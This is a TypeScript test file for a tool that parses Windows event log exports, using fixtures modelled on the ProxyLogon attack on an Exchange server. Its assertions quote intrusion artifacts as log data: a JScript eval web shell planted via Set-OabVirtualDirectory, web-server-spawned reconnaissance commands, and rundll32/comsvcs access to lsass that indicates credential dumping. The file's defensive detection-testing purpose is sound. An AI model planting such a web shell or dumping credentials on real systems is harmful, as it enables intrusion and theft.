/**
 * The event export readers on the synthetic fixtures in test/fixtures/evtx (see its README)
 * and on the real exports in ../shared/data (OTRF ProxyLogon subset, SigmaHQ regression JSON).
 */
import assert from 'node:assert/strict';
import { existsSync, readFileSync, readdirSync, type Dirent } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { LogRecord } from '../../core/record.js';
import { evtxEventRecord, readEvtx } from '../evtx/parse-evtx.js';
import { sameValue } from '../evtx/oracles.testutil.js';
import { bytesInput, fileInput, parseAll, repoRoot, requireShared, sharedDataPath, utf16 } from '../testutil.js';
import { detectEventExport } from './detect.js';
import { JsonValueSplitter, quoteBigIntegers, type JsonValue } from './json-values.js';
import { parseJsonlFlat, parseJsonlNested, parseWinEventJson } from './json-events.js';
import { parseWevtutilXml } from './wevtutil-xml.js';
import { EventXmlReader, type XmlEvent } from './xml-events.js';

function fixture(name: string): string {
  return join(repoRoot, 'test', 'fixtures', 'evtx', name);
}

function f(r: LogRecord | undefined): Record<string, string> {
  assert.ok(r);
  return r.fields();
}

describe('wevtutil XML', () => {
  it('reads events without a root, single quotes, references, RenderingInfo and UserData; reports a bad one by line', async () => {
    const { records, diagnostics, stats } = await parseAll(parseWevtutilXml, fileInput(fixture('wevtutil.xml'), 'wevtutil.xml'));
    assert.equal(records.length, 4);
    assert.equal(diagnostics.length, 1);
    assert.equal(diagnostics[0]?.line, 21);
    assert.match(diagnostics[0]?.message ?? '', /^wevtutil\.xml:21: malformed event \(line 21\): <\/Dta> closes <Data>; event skipped$/);
    const [proc, cmdlet, cleared, crash] = records;
    assert.deepEqual(proc?.origin, { path: 'wevtutil.xml', line: 1, recordId: 101, kind: 'event' });
    assert.equal(proc?.time, '2021-03-03T02:47:13.517Z');
    assert.deepEqual(f(proc), {
      Provider_Name: 'Microsoft-Windows-Security-Auditing',
      Provider_Guid: '{54849625-5478-4994-a5ba-3e3b0328c30d}',
      EventID: '4688',
      Version: '2',
      Level: '0',
      Task: '13312',
      Opcode: '0',
      Keywords: '0x8020000000000000',
      TimeCreated: '2021-03-03T02:47:13.5178492Z',
      EventRecordID: '101',
      ProcessID: '4',
      ThreadID: '7412',
      Channel: 'Security',
      Computer: 'EXCH01.contoso.test',
      SubjectUserSid: 'S-1-5-18',
      NewProcessId: '0x1a2c',
      NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd /c "whoami & hostname" > C:\\inetpub\\wwwroot\\aspnet_client\\a.txt',
      ParentProcessName: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      Data: 'S-1-5-18 0x1a2c C:\\Windows\\System32\\cmd.exe cmd /c "whoami & hostname" > C:\\inetpub\\wwwroot\\aspnet_client\\a.txt C:\\Windows\\System32\\inetsrv\\w3wp.exe',
    });
    assert.equal(cmdlet?.origin.line, 2);
    assert.equal(cmdlet?.get('Data1'), 'Set-OabVirtualDirectory');
    assert.match(cmdlet?.get('Data2') ?? '', /<script language="JScript" runat="server">function Page_Load\(\)\{eval\(Request\["a"\],"unsafe"\);\}<\/script>/);
    assert.equal(cmdlet?.get('Data4'), '');
    assert.equal(cmdlet?.get('Message'), 'Cmdlet succeeded: Set-OabVirtualDirectory');
    assert.equal(cmdlet?.get('Level'), '4', 'RenderingInfo names do not replace System numbers');
    assert.equal(cleared?.origin.line, 3);
    assert.equal(cleared?.get('SubjectUserName'), 'svc-exch');
    assert.equal(cleared?.get('Note'), 'cleared <by> a & b!');
    assert.equal(cleared?.get('TimeCreated'), '2021-03-03T03:00:00.0000000Z');
    assert.equal(crash?.get('Data1'), 'UMWorkerProcess.exe');
    assert.equal(crash?.get('Binary'), 'DEAD0BEF');
    assert.equal(crash?.get('TimeCreated'), '2021-03-03T03:05:00.5000000Z');
    assert.equal(stats.entries, 4);
    assert.equal(stats.serverName, 'EXCH01.contoso.test');
  });

  it('reads the same events from UTF-16 (PowerShell > redirection), with an <Events> root, in any piece size', async () => {
    const text = readFileSync(fixture('wevtutil.xml'), 'utf8');
    const plain = await parseAll(parseWevtutilXml, bytesInput('a.xml', Buffer.from(text)));
    const rooted = `<?xml version="1.0" encoding="utf-16"?>\r\n<Events>\r\n${text.replace(/\n/g, '\r\n')}</Events>\r\n`;
    for (const [endian, bom] of [['le', true], ['le', false], ['be', true]] as const) {
      for (const size of [7, 64 * 1024]) {
        const r = await parseAll(parseWevtutilXml, bytesInput('a.xml', utf16(rooted, endian, bom), size));
        assert.deepEqual(
          r.records.map((x) => x.fields()),
          plain.records.map((x) => x.fields()),
          `${endian} bom=${bom} pieces of ${size}`,
        );
        assert.deepEqual(
          r.records.map((x) => x.origin.line),
          [3, 4, 5, 24],
        );
        assert.equal(r.stats.encoding, endian === 'le' ? 'utf16le' : 'utf16be');
      }
    }
  });

  it('rejects what is not in its XML subset, and resumes at the next event', () => {
    const events: XmlEvent[] = [];
    const problems: string[] = [];
    const reader = new EventXmlReader(
      (e) => events.push(e),
      (p) => problems.push(`${p.line}: ${p.message}`),
    );
    reader.push('<!DOCTYPE x [<!ENTITY e "boom">]>\n<Event><System><Computer>&e;</Computer></System></Event>\n<Event><System><Computer>a &amp; b</Computer></System></Event>\n<Event><System>');
    reader.end();
    assert.equal(events.length, 1);
    assert.equal(events[0]?.line, 3);
    assert.deepEqual(problems, [
      '1: DOCTYPE and other declarations are not supported (line 1); skipped',
      '2: malformed event (line 2): unknown entity &e;; event skipped',
      '4: event starting on line 4 is not closed at the end of the file',
    ]);
  });
});

describe('Get-WinEvent | ConvertTo-Json', () => {
  it('reads Windows PowerShell 5.1 output: array, /Date()/ times, signed Keywords, unnamed Properties', async () => {
    const { records, diagnostics } = await parseAll(parseWinEventJson, fileInput(fixture('winevent-ps5.json'), 'ps5.json'));
    assert.deepEqual(diagnostics, []);
    assert.equal(records.length, 2);
    const [proc, cmdlet] = records;
    assert.deepEqual(proc?.origin, { path: 'ps5.json', line: 2, recordId: 101, kind: 'event' });
    assert.deepEqual(f(proc), {
      EventID: '4688',
      Channel: 'Security',
      Provider_Name: 'Microsoft-Windows-Security-Auditing',
      Provider_Guid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
      Computer: 'EXCH01.contoso.test',
      Level: '0',
      Task: '13312',
      Opcode: '0',
      Keywords: '0x8020000000000000',
      EventRecordID: '101',
      TimeCreated: '2021-03-03T02:47:13.5170000Z',
      ProcessID: '4',
      ThreadID: '7412',
      Version: '2',
      Data1: 'S-1-5-18',
      Data2: '6700',
      Data3: 'C:\\Windows\\System32\\cmd.exe',
      Data4: 'cmd /c whoami',
      Data5: 'true',
      Data6: 'DEAD0BEF',
      Message: 'A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\tS-1-5-18',
      Data: 'S-1-5-18 6700 C:\\Windows\\System32\\cmd.exe cmd /c whoami true DEAD0BEF',
    });
    assert.equal(proc?.time, '2021-03-03T02:47:13.517Z');
    assert.equal(cmdlet?.origin.line, 65);
    assert.equal(cmdlet?.get('Keywords'), '0x80000000000000');
    assert.equal(cmdlet?.get('UserID'), 'S-1-5-21-1-2-3-1105');
    assert.equal(cmdlet?.get('Data2'), '-ExternalUrl "http://f/<script>"');
    assert.equal(cmdlet?.get('ProcessID'), undefined, 'null values are absent, not empty');
  });

  it('reads PowerShell 7 output: a single object with an ISO time and an offset', async () => {
    const { records } = await parseAll(parseWinEventJson, fileInput(fixture('winevent-ps7.json')));
    assert.equal(records.length, 1);
    assert.equal(records[0]?.get('TimeCreated'), '2021-03-03T03:05:00.5000001Z');
    assert.equal(records[0]?.get('Data3'), '2021-03-03T03:05:00.0000000Z');
    assert.equal(records[0]?.time, '2021-03-03T03:05:00.500Z');
  });
});

describe('JSON Lines', () => {
  it('flat (NXLog/OTRF): System names mapped, collector metadata dropped, a cut line reported', async () => {
    const { records, diagnostics } = await parseAll(parseJsonlFlat, fileInput(fixture('flat.jsonl'), 'flat.jsonl'));
    assert.equal(records.length, 2);
    assert.deepEqual(
      diagnostics.map((d) => [d.line, d.code]),
      [[2, 'bad-event']],
    );
    assert.match(diagnostics[0]?.message ?? '', /line break inside a string/);
    const [sysmon, logon] = records;
    assert.deepEqual(f(sysmon), {
      EventID: '1',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Provider_Name: 'Microsoft-Windows-Sysmon',
      Provider_Guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
      Computer: 'EXCH01.contoso.test',
      Level: '4',
      Task: '1',
      Keywords: '0x8000000000000000',
      TimeCreated: '2021-03-03T02:47:13.5200000Z',
      ProcessID: '3208',
      RuleName: '-',
      ProcessId: '6700',
      Image: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd /c whoami',
      ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
      Message: 'Process Create:\r\nRuleName: -',
      Data: '- 6700 C:\\Windows\\System32\\cmd.exe cmd /c whoami C:\\Windows\\System32\\inetsrv\\w3wp.exe',
    });
    assert.equal(sysmon?.get('ProcessId'), '6700', 'exact spelling: the EventData value');
    assert.equal(sysmon?.get('ProcessID'), '3208', 'exact spelling: the System value');
    assert.equal(sysmon?.get('processid'), '6700', 'any other spelling prefers the EventData value');
    assert.equal(logon?.origin.line, 3);
    assert.equal(logon?.origin.recordId, 555);
    assert.equal(logon?.get('Level'), undefined, 'a level name is not the level number');
    assert.equal(logon?.get('TimeCreated'), '2021-03-03T02:48:00.0000000Z');
  });

  it('nested (evtx-rs style): System attributes, EventData by name, #text arrays, UserData', async () => {
    const { records, diagnostics } = await parseAll(parseJsonlNested, fileInput(fixture('nested.jsonl'), 'nested.jsonl'));
    assert.deepEqual(
      diagnostics.map((d) => d.line),
      [3],
    );
    assert.equal(records.length, 3);
    const [access, service, cleared] = records;
    assert.deepEqual(f(access), {
      Provider_Name: 'Microsoft-Windows-Sysmon',
      Provider_Guid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
      EventID: '10',
      Version: '3',
      Level: '4',
      Task: '10',
      Opcode: '0',
      Keywords: '0x8000000000000000',
      TimeCreated: '2021-03-03T02:49:00.1234560Z',
      EventRecordID: '9001',
      ProcessID: '3208',
      ThreadID: '4000',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'EXCH01.contoso.test',
      UserID: 'S-1-5-18',
      RuleName: '-',
      SourceImage: 'C:\\Windows\\System32\\rundll32.exe',
      TargetImage: 'C:\\Windows\\system32\\lsass.exe',
      GrantedAccess: '0x1fffff',
      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|C:\\Windows\\System32\\comsvcs.dll+1234',
      SourceProcessId: '6000',
      Signed: 'true',
      Data: '- C:\\Windows\\System32\\rundll32.exe C:\\Windows\\system32\\lsass.exe 0x1fffff C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|C:\\Windows\\System32\\comsvcs.dll+1234 6000 true',
    });
    assert.equal(service?.get('EventID'), '7045');
    assert.equal(service?.get('Data1'), 'svc');
    assert.equal(service?.get('Data2'), 'C:\\Windows\\Temp\\x.exe');
    assert.equal(cleared?.get('SubjectUserName'), 'svc-exch');
  });

  it('reads the OTRF ProxyLogon subset: 597 events, the OAB web shell plant and w3wp children', async (t) => {
    const path = sharedDataPath('otrf-security-datasets', 'proxylogon_ssrf_rce_poc.subset.jsonl');
    if (!requireShared(t, path)) return;
    const { records, diagnostics, stats } = await parseAll(parseJsonlFlat, fileInput(path, 'proxylogon.jsonl'));
    assert.deepEqual(diagnostics, []);
    assert.equal(records.length, 597);
    assert.equal(stats.serverName, 'MXS01.azsentinel.local');
    const mgmt = records.filter((r) => r.get('Channel') === 'MSExchange Management');
    assert.equal(mgmt.length, 3);
    // NXLog kept only the rendered message of these events.
    assert.ok(mgmt.some((r) => /Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "http:\/\/ffff\/#<script language="JScript"/.test(r.get('Message') ?? '')));
    const children = records.filter((r) => r.get('EventID') === '1' && /w3wp\.exe$/i.test(r.get('ParentImage') ?? ''));
    assert.ok(children.some((r) => /whoami/i.test(r.get('CommandLine') ?? '')), 'w3wp -> cmd /c whoami');
    for (const r of records) {
      assert.match(r.get('TimeCreated') ?? '', /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{7}Z$/);
      assert.ok(r.time !== null);
    }
  });

  it('reads SigmaHQ regression JSON (evtx-rs) with the same values as the .evtx beside it', async (t) => {
    const root = sharedDataPath('sigma', 'regression_data');
    if (!requireShared(t, root)) return;
    const pairs = findPairs(root);
    assert.ok(pairs.length > 150);
    let compared = 0;
    const problems: string[] = [];
    for (const [json, evtx] of pairs) {
      const fromJson = await parseAll(parseJsonlNested, fileInput(json));
      if (fromJson.diagnostics.length > 0) problems.push(`${json}: ${fromJson.diagnostics[0]?.message ?? ''}`);
      const ours = new Map<string, Record<string, string>>();
      for await (const ev of readEvtx(fileInput(evtx), { onDiagnostic: () => undefined })) {
        const fields = evtxEventRecord(ev, evtx).fields();
        ours.set(fields.EventRecordID ?? '', fields);
      }
      for (const r of fromJson.records) {
        compared++;
        const theirs = r.fields();
        const mine = ours.get(theirs.EventRecordID ?? '');
        if (mine === undefined) {
          problems.push(`${json}: record ${theirs.EventRecordID ?? '?'} not in the .evtx`);
          continue;
        }
        for (const [k, v] of Object.entries(theirs)) {
          if (k === 'Data') continue;
          const m = mine[k] ?? '';
          // evtx-rs writes GUID values without braces, and TimeCreated with six digits.
          const same = k === 'TimeCreated' ? m.slice(0, 26) === v.slice(0, 26) : sameValue(m, v, 'evtxexport') || m === `{${v}}`;
          if (!same && !KNOWN_JSON_EDITS.has(`${theirs.EventRecordID ?? ''}/${k}`)) problems.push(`${json}: record ${theirs.EventRecordID ?? '?'}: ${k}: evtx ${JSON.stringify(m)} json ${JSON.stringify(v)}`);
        }
      }
    }
    t.diagnostic(`${pairs.length} JSON renderings, ${compared} events compared with the .evtx files, ${problems.length} problems`);
    assert.deepEqual(problems.slice(0, 20), []);
  });
});

/**
 * Values where SigmaHQ's JSON differs from the .evtx it was made from (the JSON was edited by
 * hand: evtxexport reads the .evtx as exhunt does). Record id / field.
 */
const KNOWN_JSON_EDITS = new Set(['23419552/ParentCommandLine']);

function findPairs(root: string): [string, string][] {
  const out: [string, string][] = [];
  const walk = (dir: string): void => {
    for (const e of readdirSorted(dir)) {
      const p = join(dir, e.name);
      if (e.isDirectory()) walk(p);
      else if (e.name.endsWith('.json')) {
        const evtx = p.replace(/\.json$/, '.evtx');
        if (existsSync(evtx)) out.push([p, evtx]);
      }
    }
  };
  walk(root);
  return out;
}

function readdirSorted(dir: string): Dirent[] {
  return readdirSync(dir, { withFileTypes: true }).sort((a, b) => a.name.localeCompare(b.name));
}

describe('JSON value splitting', () => {
  function split(pieces: readonly string[]): { values: JsonValue[]; problems: string[] } {
    const values: JsonValue[] = [];
    const problems: string[] = [];
    const s = new JsonValueSplitter(
      (v) => values.push(v),
      (p) => problems.push(`${p.line}: ${p.message}`),
    );
    for (const p of pieces) s.push(p);
    s.end();
    return { values, problems };
  }

  it('splits arrays, lines and concatenated objects, in any piece size, with start lines', () => {
    const text = '[\n  {"a": "x]}\\"{"},\n  {"b": [1, {"c": 2}]}\n]\n{"d": 1}\n\n{\n "e": "\\u0041"\n}\n';
    for (const size of [1, 3, 1000]) {
      const pieces: string[] = [];
      for (let i = 0; i < text.length; i += size) pieces.push(text.slice(i, i + size));
      const { values, problems } = split(pieces);
      assert.deepEqual(problems, []);
      assert.deepEqual(
        values.map((v) => [v.line, v.value]),
        [
          [2, { a: 'x]}"{' }],
          [3, { b: [1, { c: 2 }] }],
          [5, { d: 1 }],
          [7, { e: 'A' }],
        ],
      );
    }
  });

  it('keeps every digit of 64-bit integers, and reports bad values by line', () => {
    assert.equal(quoteBigIntegers('{"k": -9214364837600034816, "s": "12345678901234567890", "f": 1234567890123456.5}'), '{"k": "-9214364837600034816", "s": "12345678901234567890", "f": 1234567890123456.5}');
    const { values, problems } = split(['{"a": 1,}\n', 'garbage\n', '{"b": 2}\n', '{"c": ']);
    assert.deepEqual(
      values.map((v) => v.value),
      [{ b: 2 }],
    );
    assert.equal(problems.length, 3);
    assert.match(problems[0] ?? '', /^1: malformed JSON/);
    assert.match(problems[1] ?? '', /^2: text between events/);
    assert.match(problems[2] ?? '', /^4: event starting on line 4 is not closed/);
  });
});

describe('detectEventExport', () => {
  it('tells the four export kinds apart by content, in UTF-8 and UTF-16, and rejects the rest', (t) => {
    const head = (name: string): Buffer => readFileSync(fixture(name));
    assert.equal(detectEventExport(head('wevtutil.xml')), 'wevtutil-xml');
    assert.equal(detectEventExport(utf16(`<?xml version="1.0"?><Events>${head('wevtutil.xml').toString('utf8')}`, 'le', true)), 'wevtutil-xml');
    assert.equal(detectEventExport(head('winevent-ps5.json')), 'winevent-json');
    assert.equal(detectEventExport(utf16(head('winevent-ps7.json').toString('utf8'), 'le', true)), 'winevent-json');
    assert.equal(detectEventExport(head('flat.jsonl')), 'jsonl-flat');
    assert.equal(detectEventExport(head('nested.jsonl')), 'jsonl-nested');
    assert.equal(detectEventExport(Buffer.from('#Software: Microsoft Internet Information Services 10.0\n')), null);
    assert.equal(detectEventExport(Buffer.from('{"name": "package", "version": "1.0.0"}')), null);
    assert.equal(detectEventExport(Buffer.from('<html><body>x</body></html>')), null);
    assert.equal(detectEventExport(Buffer.from('ElfFile\0')), null);
    assert.equal(detectEventExport(Buffer.alloc(0)), null);
    const otrf = sharedDataPath('otrf-security-datasets', 'psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json');
    if (!requireShared(t, otrf)) return;
    assert.equal(detectEventExport(readFileSync(otrf).subarray(0, 16384)), 'jsonl-flat');
  });
});
